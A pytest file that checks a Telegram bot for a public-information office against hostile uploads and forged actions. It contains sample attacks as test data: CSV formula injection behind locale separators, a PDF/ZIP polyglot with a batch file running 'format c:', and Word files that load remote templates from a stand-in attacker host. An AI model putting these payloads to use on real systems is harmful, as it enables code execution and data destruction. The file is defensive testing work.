"""An attacker's read of issue 12: what a hostile or careless user could still get past the
guarantees. Each test names the point of the issue it attacks."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import timedelta
from typing import Any

import pytest

from bot.config import load_settings
from bot.filetypes import inspect_content
from bot.register import RegisterError, edit_item
from bot.sandbox.errors import ApiError
from bot.spreadsheets import Table, csv_bytes
from telegram.error import TimedOut
from bot.workflow import PUBLICATION_CLAIMS, Upload, WorkflowError
from tests.bot.cycle_helpers import (
    OPERATOR_ID,
    PELAKSANA_ID,
    MONDAY_MORNING,
    UTAMA2_ID,
    UTAMA_ID,
    Office,
    approve_and_publish,
    cycle_at_publication,
    cycle_at_review,
    open_first_task,
    person,
    waiting_for_draft,
)
from tests.conftest import ADMIN_ID, CHANNEL_ID
from handlers.reminders import run_sweep
from tests.bot.test_nothing_wrong_public import LEGAL_BASIS, draft_sent_by_chat, grant, make_exempt_in_register
from tests.samples import MINIMAL_JPEG, MINIMAL_PDF, MINIMAL_PNG, make_docx, unique_pdf
from tests.exemption_sample import exemption


async def draft_rows(office: Office) -> int:
    return int(await office.db_value("SELECT COUNT(*) FROM documents WHERE kind = 'draft'"))


def pdf_with_zip_ending_in_eof() -> bytes:
    """A PDF with a ZIP appended whose archive comment is "%%EOF": the file still ends with
    "%%EOF", and every ZIP reader opens the archive (its end record is in the last bytes)."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as out:
        out.writestr("jalankan.bat", "@echo off\r\nformat c:\r\n")
    archive_bytes = bytearray(archive.getvalue())
    # The end-of-central-directory record: its comment length (2 bytes at offset 20) then the comment.
    end = archive_bytes.rfind(b"PK\x05\x06")
    archive_bytes[end + 20 : end + 22] = (5).to_bytes(2, "little")
    data = MINIMAL_PDF + bytes(archive_bytes) + b"%%EOF"
    assert zipfile.is_zipfile(io.BytesIO(data))  # a polyglot: a PDF and a ZIP at once
    with zipfile.ZipFile(io.BytesIO(data)) as archive_read:
        assert archive_read.namelist() == ["jalankan.bat"]
    return data


# -- point 5: hostile files --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "name", "refusal"),
    [
        # Excel set to Indonesian (the office's locale) splits CSV at ";", not ",": the third cell
        # of row 2 is then =HYPERLINK(...), although the comma reading sees only "Budi;=HYPER...".
        (b"no,nama\n1,Budi;=HYPERLINK(\"http://x\")\n2,Sari\n", "data.csv", "dapat dijalankan sebagai rumus"),
        # "sep=|" on the first line makes Excel split at "|", whatever the delimiter looks like.
        (b"sep=|\nno,nama\n1,Budi|=1+1\n2,Sari\n3,Dodi\n4,Eka\n5,Fani\n", "data.csv", "dapat dijalankan sebagai rumus"),
        # A ZIP appended to a PDF, its comment "%%EOF": nothing follows the last %%EOF.
        (pdf_with_zip_ending_in_eof(), "laporan.pdf", "berisi data lain setelah akhir dokumennya"),
    ],
    ids=["csv-formula-behind-semicolon", "csv-sep-directive", "pdf-zip-ending-in-eof"],
)
async def test_hostile_files_that_pass_the_first_checks_are_refused(
    office: Office, data: bytes, name: str, refusal: str
) -> None:
    await waiting_for_draft(office)
    putri = office.pelaksana
    putri.send_document(data, name)
    await office.deliver()
    assert refusal in putri.last_text()
    assert await draft_rows(office) == 0


# -- point 4 (and 1): a publication Telegram refuses half-way -----------------------------------


async def cycle_at_review_with_two_files(office: Office) -> int:
    """A cycle waiting at step 4 whose draft version 1 holds two files (through the workflow)."""
    item_id = await office.add_item("Daftar Aset Daerah 2026")
    workflow = office.services.workflow
    cycle_id = (await workflow.open_cycle(await person(office, ADMIN_ID), item_id)).cycle.id
    letter = await office.services.files.put(MINIMAL_PDF, "surat.pdf")
    await workflow.send_coordination(await person(office, OPERATOR_ID), cycle_id, Upload(letter, "pdf", None), "surat.pdf")
    putri = await person(office, PELAKSANA_ID)
    for number, name in ((1, "lampiran1.pdf"), (2, "lampiran2.pdf")):
        stored = await office.services.files.put(unique_pdf(f"lampiran {number}"), name)
        await workflow.add_draft_file(putri, cycle_id, Upload(stored, "pdf", None), name)
    await workflow.submit_draft(putri, cycle_id)
    return cycle_id


async def test_a_post_refused_half_way_leaves_nothing_in_the_channel(office: Office) -> None:
    """The caption and the first file are posted, Telegram refuses the second: the operator is
    told "nothing changed" and may press again, so the channel must not keep the first half (it
    would stand there with no publication to withdraw, and a second press would post it twice)."""
    cycle_id = await cycle_at_review_with_two_files(office)
    await open_first_task(office, office.utama)
    send_document = office.fake._methods["senddocument"]
    to_channel: list[int] = []

    def refuse_the_second_file(params: Any) -> Any:
        if str(params.chat_id()) == str(CHANNEL_ID):
            to_channel.append(1)
            if len(to_channel) == 2:
                raise ApiError(400, "Bad Request: wrong file identifier/HTTP URL specified")
        return send_document(params)

    office.fake._methods["senddocument"] = refuse_the_second_file
    await approve_and_publish(office)
    assert office.operator.last_callback_answer()["text"].startswith("Gagal memposting ke kanal publik")
    assert await office.db_value("SELECT COUNT(*) FROM publications") == 0
    assert office.channel.posts() == []  # the half that went out was taken back

    office.fake._methods["senddocument"] = send_document
    office.operator.press_button("📢 Publikasikan sekarang")
    await office.deliver()
    office.operator.press_button("✅ Ya, kirim")
    await office.deliver()
    assert len(office.channel.posts()) == 2  # the caption with the first file, then the second: once
    assert await office.db_value("SELECT state FROM update_cycles WHERE id = ?", cycle_id) == "published"


async def test_a_half_post_that_cannot_be_taken_back_asks_the_operator(office: Office) -> None:
    """The first half cannot be deleted either: the claim stays and the operator is asked whether
    it is in the channel (as after a crash), never told "nothing changed"."""
    cycle_id = await cycle_at_review_with_two_files(office)
    await open_first_task(office, office.utama)
    send_document = office.fake._methods["senddocument"]
    to_channel: list[int] = []

    def refuse_the_second_file(params: Any) -> Any:
        if str(params.chat_id()) == str(CHANNEL_ID):
            to_channel.append(1)
            if len(to_channel) == 2:
                raise ApiError(400, "Bad Request: wrong file identifier/HTTP URL specified")
        return send_document(params)

    def refuse_to_delete(params: Any) -> Any:
        raise ApiError(400, "Bad Request: message can't be deleted")

    office.fake._methods["senddocument"] = refuse_the_second_file
    office.fake._methods["deletemessage"] = refuse_to_delete
    await approve_and_publish(office)
    assert office.operator.last_text().startswith('⚠️ Publikasi "Daftar Aset Daerah 2026" terhenti sebelum tercatat.')
    assert len(office.channel.posts()) == 1
    assert await office.services.kv.get(PUBLICATION_CLAIMS, str(cycle_id)) is not None
    assert await office.db_value("SELECT COUNT(*) FROM channel_messages") == 1  # a withdrawal deletes it


# -- point 1: exempt while the post is going out --------------------------------------------------


async def test_a_change_to_exempt_while_the_post_goes_out_is_refused(office: Office) -> None:
    """publish() commits its claim, then posts (20 files take a while). An admin who makes the item
    dikecualikan meanwhile was told the cycle ended, while the post went on and was recorded as a
    publication of the exempt item, its cycle "cancelled". The change must wait for the post."""
    cycle_id = await cycle_at_review_with_two_files(office)
    services = office.services
    workflow = services.workflow
    item_id = int(await office.db_value("SELECT item_id FROM update_cycles WHERE id = ?", cycle_id))
    await workflow.approve(await person(office, UTAMA_ID), cycle_id, 1)
    await workflow.coordinate_publication(await person(office, OPERATOR_ID), cycle_id)
    refusals: list[str] = []

    async def post_while_the_admin_exempts(item: Any, cycle: Any) -> tuple[int, int]:
        first = await office.app.bot.send_message(CHANNEL_ID, item.summary)
        try:
            await edit_item(services, ADMIN_ID, item_id, "category", "dikecualikan", exemption=exemption())
        except RegisterError as error:
            refusals.append(error.key)
        await office.app.bot.send_message(CHANNEL_ID, "lampiran")
        return first.chat.id, first.message_id

    await workflow.publish(await person(office, OPERATOR_ID), cycle_id, post_while_the_admin_exempts)
    assert refusals == ["dip_err_publishing"]
    assert await office.db_value("SELECT category FROM info_items WHERE id = ?", item_id) == "berkala"
    assert await office.db_value("SELECT state FROM update_cycles WHERE id = ?", cycle_id) == "published"
    # Once the post is recorded the change goes through (and the publication can be withdrawn).
    await edit_item(services, ADMIN_ID, item_id, "category", "dikecualikan", exemption=exemption())
    assert await office.db_value("SELECT category FROM info_items WHERE id = ?", item_id) == "dikecualikan"


async def test_the_admin_is_told_the_post_is_going_out(office: Office) -> None:
    """Through /informasi: the refusal is one clear line, nothing changes."""
    cycle_id = await cycle_at_review_with_two_files(office)
    workflow = office.services.workflow
    await workflow.approve(await person(office, UTAMA_ID), cycle_id, 1)
    await workflow.coordinate_publication(await person(office, OPERATOR_ID), cycle_id)
    async with office.services.db.transaction() as conn:  # the claim publish() commits before posting
        await office.services.kv.set(conn, PUBLICATION_CLAIMS, str(cycle_id), {"by": OPERATOR_ID, "at": "x"})
    await make_exempt_in_register(office, "Daftar Aset Daerah 2026")
    assert "sedang dipublikasikan" in office.admin.last_text()
    assert await office.db_value("SELECT category FROM info_items") == "berkala"
    assert await office.db_value("SELECT state FROM update_cycles WHERE id = ?", cycle_id) == "open"


# -- point 15: no review card for its own uploader, whatever the way in --------------------------


async def test_the_uploader_opening_the_review_step_gets_no_decision_buttons(office: Office) -> None:
    """The reminder sweep's "Lihat tugas" button (tsk:<cycle>) reaches every PPID Utama, the
    uploader too: opening it must not give him a card whose Setujui / Kembalikan only refuse."""
    services = office.services
    async with services.db.transaction() as conn:
        await services.users.grant_role(conn, telegram_id=UTAMA_ID, role="pelaksana", unit_id=office.unit_id)
    umar = office.utama
    cycle_id = await draft_sent_by_chat(office, umar)
    assert await office.db_value("SELECT current_step FROM update_cycles WHERE id = ?", cycle_id) == 4
    umar.press(umar.last_message(), f"tsk:{cycle_id}")
    await office.deliver()
    review_data = f"rv:ok:{cycle_id}:1"
    assert not any(review_data in [b["callback_data"] for b in umar.buttons(m)] for m in umar.messages())
    assert "tidak dapat memverifikasi draf yang diunggah sendiri" in umar.last_callback_answer()["text"]


# -- point 4: the letter goes to exactly the people the preview named -----------------------------


async def test_a_letter_goes_only_to_the_recipients_its_preview_named(office: Office) -> None:
    """The preview names Putri; before "Ya, kirim" another PPID Pelaksana joins the unit. The
    letter (an official letter, sent outside the office unseen otherwise) must not reach him."""
    item_id = await office.add_item("Laporan Kinerja 2026")
    oki = office.operator
    office.admin.send_command("/start")
    await office.deliver()
    await office.press_on_last(office.admin, f"cyc:open:{item_id}")
    cycle_id = int(await office.db_value("SELECT id FROM update_cycles WHERE item_id = ?", item_id))
    oki.press_button("📝 Buat surat dari templat")
    await office.deliver()
    preview = oki.last_message()
    assert preview["caption"].endswith("Dinas Sosial: Putri. Kirim sekarang?")
    newcomer = await grant(office, 730009, "Pandu", "pelaksana", office.unit_id)
    oki.press_button("✅ Ya, kirim", preview)
    await office.deliver()
    assert newcomer.documents() == []
    assert await office.db_value("SELECT COUNT(*) FROM coordination") == 0
    assert await office.db_value("SELECT current_step FROM update_cycles WHERE id = ?", cycle_id) == 2
    assert oki.last_callback_answer()["text"].startswith("Pratinjau surat ini sudah tidak berlaku.")
    # A new preview names both, and its "Ya, kirim" sends to both.
    oki.press_button("📝 Buat surat dari templat")
    await office.deliver()
    assert oki.last_message()["caption"].endswith("Dinas Sosial: Putri, Pandu. Kirim sekarang?")
    oki.press_button("✅ Ya, kirim", oki.last_message())
    await office.deliver()
    assert len(newcomer.documents()) == 1


async def test_the_recipients_are_checked_inside_the_sending_transaction(office: Office) -> None:
    item_id = await office.add_item("Laporan Kinerja 2026")
    workflow = office.services.workflow
    cycle_id = (await workflow.open_cycle(await person(office, ADMIN_ID), item_id)).cycle.id
    letter = await office.services.files.put(MINIMAL_PDF, "surat.pdf")
    oki = await person(office, OPERATOR_ID)
    with pytest.raises(WorkflowError) as refused:
        await workflow.send_coordination(oki, cycle_id, Upload(letter, "pdf", None), "surat.pdf", recipients=[730009])
    assert refused.value.key == "letter_preview_outdated"
    assert await office.db_value("SELECT COUNT(*) FROM coordination") == 0
    sent = await workflow.send_coordination(
        oki, cycle_id, Upload(letter, "pdf", None), "surat.pdf", recipients=[PELAKSANA_ID]
    )
    assert [entry.asked_user_id for entry in sent.detail["asked"]] == [PELAKSANA_ID]


# -- point 4: "Ya, kirim" posts exactly what its preview showed, and only after a preview ---------


async def test_a_caption_changed_after_the_preview_is_not_posted_unseen(office: Office) -> None:
    """The operator sees the preview; the admin then edits the item's summary (the caption's
    title). "Ya, kirim" must not post a caption the operator never saw."""
    cycle_id = await cycle_at_publication(office)
    item_id = int(await office.db_value("SELECT item_id FROM update_cycles WHERE id = ?", cycle_id))
    oki = office.operator
    oki.press_button("📢 Publikasikan sekarang")
    await office.deliver()
    shown, confirm = oki.messages()[-2:]
    assert shown["text"].startswith("Daftar Aset Daerah 2026\n")
    await edit_item(office.services, ADMIN_ID, item_id, "summary", "Daftar Aset Daerah 2026 (RAHASIA: jangan terbitkan)")
    oki.press_button("✅ Ya, kirim", confirm)
    await office.deliver()
    assert oki.last_callback_answer()["text"].startswith("Pratinjau ini sudah tidak berlaku.")
    assert office.channel.posts() == []
    assert await office.db_value("SELECT COUNT(*) FROM publications") == 0
    assert await office.services.kv.get(PUBLICATION_CLAIMS, str(cycle_id)) is None
    # A new preview shows the new caption; its "Ya, kirim" posts exactly that.
    oki.press_button("📢 Publikasikan sekarang")
    await office.deliver()
    shown, confirm = oki.messages()[-2:]
    oki.press_button("✅ Ya, kirim", confirm)
    await office.deliver()
    posts = office.channel.posts()
    assert len(posts) == 1 and posts[0]["caption"] == shown["text"]


@pytest.mark.parametrize("before", ["no_preview", "cancelled"])
async def test_ya_kirim_without_a_standing_preview_posts_nothing(office: Office, before: str) -> None:
    """Callback data is plain text: "pb:yes:<cycle>:<version>" pressed without a preview, or the
    cancelled preview's "Ya, kirim" pressed anyway, must not post."""
    cycle_id = await cycle_at_publication(office)
    oki = office.operator
    if before == "cancelled":
        oki.press_button("📢 Publikasikan sekarang")
        await office.deliver()
        preview = oki.last_message()
        oki.press_button("❌ Batal", preview)
        await office.deliver()
        oki.press(preview, f"pb:yes:{cycle_id}:1")
    else:
        oki.press(oki.last_message(), f"pb:yes:{cycle_id}:1")
    await office.deliver()
    assert oki.last_callback_answer()["text"].startswith("Pratinjau ini sudah tidak berlaku.")
    assert office.channel.posts() == []
    assert await office.db_value("SELECT state FROM update_cycles WHERE id = ?", cycle_id) == "open"


# -- point 5: the export guard covers what Excel would read as a formula --------------------------


@pytest.mark.parametrize("separator", [";", "\t"])
def test_the_csv_export_guards_a_formula_behind_the_locales_separator(separator: str) -> None:
    """A summary typed by staff, "Anggaran;=HYPERLINK(...)", exported to the DIP CSV and opened in
    Excel set to Indonesian (which splits at ";"): its second part is a cell of its own, and must
    not be a formula. Plain numbers stay as they are."""
    cell = f'Anggaran{separator}=HYPERLINK("http://x","klik"){separator}-5{separator}+5,x'
    exported = csv_bytes(Table("t", ["a", "b"], [[cell, "x"]])).decode("utf-8-sig")
    line = next(csv.reader(io.StringIO(exported)))
    assert line == ["a", "b"]
    (row,) = list(csv.reader(io.StringIO(exported.split("\r\n", 1)[1])))[:1]
    parts = row[0].split(separator)
    assert parts[0] == "Anggaran" and parts[1].startswith("'=HYPERLINK(") and parts[2:] == ["-5", "+5,x"]
    assert inspect_content(("a,b\n" + exported.split("\r\n", 1)[1]).encode()).reason != "formula"


# -- point 5: an Office file that fetches code from elsewhere -------------------------------------

SETTINGS_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"'
    ' Target="{target}" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("kind", "target", "part"),
    [
        # "Remote template injection": Word fetches the macro template when the file is opened.
        ("attachedTemplate", "http://penyerang.example/tpl.dotm", "word/_rels/settings.xml.rels"),
        ("oleObject", "http://penyerang.example/x.rtf", "word/_rels/document.xml.rels"),
        ("attachedTemplate", "\\\\penyerang.example\\share\\tpl.dotm", "word/_rels/settings.xml.rels"),
    ],
    ids=["remote-template", "remote-ole-object", "unc-template"],
)
async def test_a_docx_that_loads_a_template_or_object_from_elsewhere_is_refused(
    office: Office, kind: str, target: str, part: str
) -> None:
    """No vbaProject.bin, a plain Word content type: the macro comes from a server when PPID Utama
    (or anyone reading the channel) opens it. A hyperlink, the one harmless external target, is
    still accepted."""
    await waiting_for_draft(office)
    putri = office.pelaksana
    hostile = make_docx(extra_entries=((part, SETTINGS_RELS.format(kind=kind, target=target)),))
    putri.send_document(hostile, "laporan.docx")
    await office.deliver()
    assert "mengambil isi dari luar" in putri.last_text()
    assert await draft_rows(office) == 0
    linked = make_docx(
        extra_entries=(
            ("word/_rels/document.xml.rels", SETTINGS_RELS.format(kind="hyperlink", target="https://ppid.example.go.id/")),
        )
    )
    putri.send_document(linked, "laporan.docx")
    await office.deliver()
    assert "Versi 1 kini berisi 1 berkas." in putri.last_text()


def zip_appended(data: bytes) -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as out:
        out.writestr("jalankan.bat", "@echo off\r\n")
    return data + archive.getvalue()


@pytest.mark.parametrize("image", ["jpeg", "png"])
async def test_an_image_with_an_archive_appended_is_refused(office: Office, image: str) -> None:
    """As for a PDF: a picture that is also a ZIP (an unzip tool opens the archive) never goes on."""
    await waiting_for_draft(office)
    data = zip_appended(MINIMAL_JPEG if image == "jpeg" else MINIMAL_PNG)
    assert zipfile.is_zipfile(io.BytesIO(data))
    office.pelaksana.send_document(data, f"foto.{'jpg' if image == 'jpeg' else 'png'}")
    await office.deliver()
    assert "tidak dapat diterima" in office.pelaksana.last_text()
    assert await draft_rows(office) == 0


async def test_a_forged_repost_without_an_interrupted_publication_posts_nothing(office: Office) -> None:
    """"Belum ada, kirim ulang" (pb:re:<cycle>) is offered only after an interrupted publication;
    pressed as forged data at step 7 it skipped the preview and posted."""
    cycle_id = await cycle_at_publication(office)
    oki = office.operator
    oki.press(oki.last_message(), f"pb:re:{cycle_id}")
    await office.deliver()
    assert office.channel.posts() == []
    assert await office.db_value("SELECT state FROM update_cycles WHERE id = ?", cycle_id) == "open"
    assert oki.last_callback_answer()["show_alert"]


# -- the role that posts is checked inside the claim's transaction --------------------------------


async def test_an_operator_removed_before_the_claim_commits_posts_nothing(office: Office) -> None:
    """The gate read Oki as operator; the admin takes the role away before his "Ya, kirim" reaches
    the claim's transaction (another chat, at the same moment). As for a withdrawal, the role that
    guards a public post is read inside the transaction that claims it."""
    cycle_id = await cycle_at_publication(office)
    services = office.services
    oki = await person(office, OPERATOR_ID)  # read while still operator
    async with services.db.transaction() as conn:
        await services.users.revoke_role(conn, telegram_id=OPERATOR_ID, role="operator", unit_id=None)
    posted: list[int] = []

    async def post(item: Any, cycle: Any) -> tuple[int, int]:
        posted.append(1)
        message = await office.app.bot.send_message(CHANNEL_ID, item.summary)
        return message.chat.id, message.message_id

    with pytest.raises(WorkflowError) as refused:
        await services.workflow.publish(oki, cycle_id, post)
    assert refused.value.key == "role_revoked"  # said as it is: the role was taken away
    assert posted == [] and office.channel.posts() == []
    assert await services.kv.get(PUBLICATION_CLAIMS, str(cycle_id)) is None


async def test_the_reminders_of_a_review_leave_its_uploader_out(office: Office) -> None:
    """Umar (PPID Utama and PPID Pelaksana) uploaded the draft; the step 4 reminders ("Lihat
    tugas") go to the PPID Utama who may verify it, not to him."""
    services = office.services
    async with services.db.transaction() as conn:
        await services.users.grant_role(conn, telegram_id=UTAMA_ID, role="pelaksana", unit_id=office.unit_id)
    _, cycle_id = await cycle_at_review(office, uploader=UTAMA_ID)
    office.clock.set(MONDAY_MORNING + timedelta(days=9))  # step 4 is long overdue
    await run_sweep(office.app)
    reminded = {
        row[0] for row in await services.db.fetch_all("SELECT recipient_id FROM reminders WHERE cycle_id = ? AND step_no = 4", (cycle_id,))
    }
    assert UTAMA2_ID in reminded
    assert UTAMA_ID not in reminded


# -- point 10: the key is kept apart from what is backed up ----------------------------------------


def test_the_default_audit_key_is_not_in_the_data_folder(tmp_path: Any) -> None:
    settings = load_settings({"ADMIN_IDS": str(ADMIN_ID), "PUBLIC_CHANNEL": str(CHANNEL_ID)}, base_dir=tmp_path)
    data_folders = {settings.database_path.parent, settings.files_dir.parent}
    assert not any(folder in settings.audit_key_file.parents for folder in data_folders)
    assert settings.audit_key_file.parent == tmp_path  # beside the configuration (.env)


def test_a_key_made_where_an_earlier_release_kept_it_is_still_used(tmp_path: Any) -> None:
    """An install whose key was created in the database's folder keeps starting: that key is used
    until the office moves it (a new key beside .env would not open the signed chain)."""
    earlier = tmp_path / "data" / "audit.key"
    earlier.parent.mkdir()
    earlier.write_bytes(b"k" * 32)
    settings = load_settings({"ADMIN_IDS": str(ADMIN_ID)}, base_dir=tmp_path)
    assert settings.audit_key_file == earlier
    moved = tmp_path / "audit.key"
    earlier.rename(moved)
    assert load_settings({"ADMIN_IDS": str(ADMIN_ID)}, base_dir=tmp_path).audit_key_file == moved


# -- point 16: a post whose answer is lost is not posted twice -------------------------------------


async def test_a_post_whose_answer_timed_out_is_never_posted_twice(office: Office) -> None:
    """Telegram took the post but its answer never came (a timeout: the usual network hiccup). That
    is not "known not posted": the claim stays and the next press asks whether it is there,
    instead of "nothing changed" and a second post."""
    cycle_id = await cycle_at_review_with_two_files(office)
    await open_first_task(office, office.utama)
    handle = office.fake.handle

    async def answer_lost(method: str, values: Any, files: Any = None, *, token: Any = None) -> Any:
        answer = await handle(method, values, files, token=token)
        if method.lower() == "senddocument" and str(values.get("chat_id")) == str(CHANNEL_ID):
            raise TimedOut()
        return answer

    office.fake.handle = answer_lost  # type: ignore[method-assign]
    await approve_and_publish(office)
    office.fake.handle = handle  # type: ignore[method-assign]
    assert len(office.channel.posts()) == 1  # the caption and first file went out
    assert await office.services.kv.get(PUBLICATION_CLAIMS, str(cycle_id)) is not None
    assert office.operator.last_text().startswith('⚠️ Publikasi "Daftar Aset Daerah 2026" terhenti sebelum tercatat.')
    office.operator.press_button("📢 Publikasikan sekarang")
    await office.deliver()
    office.operator.press_button("✅ Ya, kirim")
    await office.deliver()
    assert len(office.channel.posts()) == 1  # not posted a second time
